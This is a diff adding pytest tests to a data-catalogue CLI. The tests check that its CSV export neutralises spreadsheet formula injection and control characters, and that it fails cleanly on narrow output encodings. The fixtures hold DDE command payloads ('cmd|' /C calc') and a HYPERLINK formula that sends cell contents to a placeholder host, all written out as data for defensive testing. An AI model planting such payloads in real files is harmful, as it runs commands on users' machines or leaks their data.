@@ -22,10 +22,11 @@ import migdialogue
 from migdialogue import outfile
 
 from . import tools
-from .test_defects import EXE, out_json
+from .test_defects import EXE, out_json, run
 from .test_validate import GOOD_EXAMPLE
 
 GiB = 1024**3
+JORDAN = "jordan-garment-collective-agreement-2022"
 ODD = "C#1?x=%41 100%"  # a fragment, a query and an escape, were the path read as a URI
 
 
@@ -196,3 +197,162 @@ def test_5_every_file_of_the_cache_counts_in_its_size_bound(tmp_path: Path, mine
     out_json("show", "my-case", "--json", "--data", str(mine), env={"MIGDIALOGUE_CACHE_DIR": str(cache)})
     assert not older.exists() and building.stat().st_size == 5 * GiB
     assert len(_entries(cache)) == 1
+
+
+# -- 3. formula injection in CSV (CWE-1236); 9. control characters round-trip ------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
+    "summary": "+cmd|' /C calc'!A0",
+    "sectors": ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB=1", "'=quoted already", "''-twice"],
+    "actors": ["\r=CR first", "-", "plain", "-3.5"],
+    "notes": ["=1+1", "ends with =", "\\x07 is text, not a bell", "a bell \x07, an escape \x1b[31mred\x1b[0m"],
+    "quote": {"text": "=cmd", "by": "@someone"},
+}
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile_record(**fields: object) -> dict[str, object]:
+    record: dict[str, object] = {
+        "id": "my-case",
+        "title": "A case",
+        "summary": "Something the team coded.",
+        "countries": ["Jordan"],
+        "region": ["arab-states"],
+        "level": "national",
+        "dialogue_type": "tripartite",
+        "theme": "policy-formulation",
+        "years": [2021],
+        "sectors": [],
+        "actors": [],
+        "challenges": ["gender"],
+        "sources": [44],
+    }
+    record.update(fields)
+    return record
+
+
+def _jsonl(path: Path, *records: dict[str, object]) -> Path:
+    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
+    return path
+
+
+def _cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["export", "--format", "csv"],  # the export writer
+        ["list", "--format", "csv"],  # a listing
+        ["show", "my-case", "--format", "csv"],  # a document
+        ["search", "hyperlink click", "--format", "csv"],
+    ],
+)
+def test_3_no_csv_writer_leaves_a_cell_a_spreadsheet_would_run(tmp_path: Path, args: list[str]) -> None:
+    data = _jsonl(tmp_path / "mine.jsonl", _hostile_record(**FORMULAS))
+    result = subprocess.run(
+        [EXE, *args, "--data", str(data)], capture_output=True, text=True, timeout=120, env=_env(), encoding="utf-8"
+    )
+    assert result.returncode == 0, result.stderr
+    cells = [c for row in _cells(result.stdout) for c in row]
+    assert any(c.startswith("'=") for c in cells), "the hostile record is not in the output"
+    for c in cells:
+        assert not c.startswith(DANGEROUS) or _is_number(c), c
+        assert "\x1b" not in c and "\x07" not in c, c
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _env() -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
+    env.update({"NO_COLOR": "1", "COLUMNS": "100"})
+    return env
+
+
+def test_3_9_the_csv_round_trip_gives_the_same_records(tmp_path: Path) -> None:
+    """What the CSV writer neutralised and escaped, the CSV reader gives back: formulas, quotes,
+    control characters, a literal backslash escape, the bundled examples (the whole export)."""
+    bell = _hostile_record(
+        id="my-bell",
+        title="a bell \x07, an escape \x1b[31mred\x1b[0m, a carriage return\r, an override \u202e",
+        summary="\\x07 is text, not a bell; so is C:\\xampp\\u202e; and \\\x07",
+    )
+    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(**FORMULAS), bell)
+    before = out_json("export", "--format", "json", "--data", str(mine))
+    exported = tmp_path / "examples.csv"
+    result = subprocess.run(
+        [EXE, "export", "--format", "csv", "--output", str(exported), "--data", str(mine)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=_env(),
+    )
+    assert result.returncode == 0, result.stderr
+    raw = exported.read_bytes()
+    assert b"\x1b" not in raw and b"\x07" not in raw and b"\r" not in raw and "\u202e".encode() not in raw
+    after = out_json("export", "--format", "json", "--data", str(exported))
+    assert after["examples"] == before["examples"]
+    back = {e["id"]: e for e in after["examples"]}["my-bell"]
+    assert (back["title"], back["summary"]) == (bell["title"], bell["summary"])
+
+
+# -- 7. an encoding a format cannot write ----------------------------------------------------------
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
+def test_7_yaml_on_a_narrow_stdout_is_the_same_data_with_escapes(tmp_path: Path, encoding: str) -> None:
+    import yaml
+
+    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(title="\u5de5\u4f1a \U0001f91d Stockholms Byggm\u00e4stare"))
+    wide = run("export", "--format", "yaml", "--data", str(mine))
+    narrow = run("export", "--format", "yaml", "--data", str(mine), env={"PYTHONIOENCODING": encoding})
+    assert narrow.returncode == 0, narrow.stderr
+    assert narrow.stdout.count("?") == wide.stdout.count("?") and narrow.stdout.isascii()
+    assert yaml.safe_load(narrow.stdout) == yaml.safe_load(wide.stdout)
+
+
+@pytest.mark.parametrize(
+    ("args", "encoding", "char"),
+    [
+        (["export", "--format", "csv", "--data", "MINE"], "cp1252", "U+5DE5"),
+        (["list", "--format", "csv", "--data", "MINE"], "cp1252", "U+5DE5"),
+        (["cite", JORDAN, "--style", "bibtex"], "ascii", "U+"),
+        (["cite", JORDAN, "--style", "ris"], "ascii", "U+"),
+    ],
+)
+def test_7_csv_bibtex_or_ris_on_a_stdout_that_cannot_take_it_is_an_error(
+    tmp_path: Path, args: list[str], encoding: str, char: str
+) -> None:
+    mine = _jsonl(tmp_path / "mine.jsonl", _hostile_record(title="\u5de5\u4f1a \U0001f91d"))
+    result = subprocess.run(
+        [EXE, *(str(mine) if a == "MINE" else a for a in args)],
+        capture_output=True,
+        timeout=120,
+        env={**_env(), "PYTHONIOENCODING": encoding},
+    )
+    assert result.returncode == 4 and result.stdout == b"", result.stderr
+    expected = f"migdialogue: error: standard output's encoding ({encoding}) cannot write {char}"
+    assert result.stderr.startswith(expected.encode()) and result.stderr.count(b"\n") == 1, result.stderr
+
+
+def test_7_the_page_on_a_narrow_stdout_is_written_in_the_utf_8_it_declares() -> None:
+    wide = subprocess.run([EXE, "export", "--format", "html"], capture_output=True, timeout=120, env=_env())
+    narrow = subprocess.run(
+        [EXE, "export", "--format", "html"],
+        capture_output=True,
+        timeout=120,
+        env={**_env(), "PYTHONIOENCODING": "ascii"},
+    )
+    assert narrow.returncode == 0 and narrow.stdout == wide.stdout
+    assert b'<meta charset="utf-8">' in narrow.stdout and "Byggm\u00e4stare".encode() in narrow.stdout
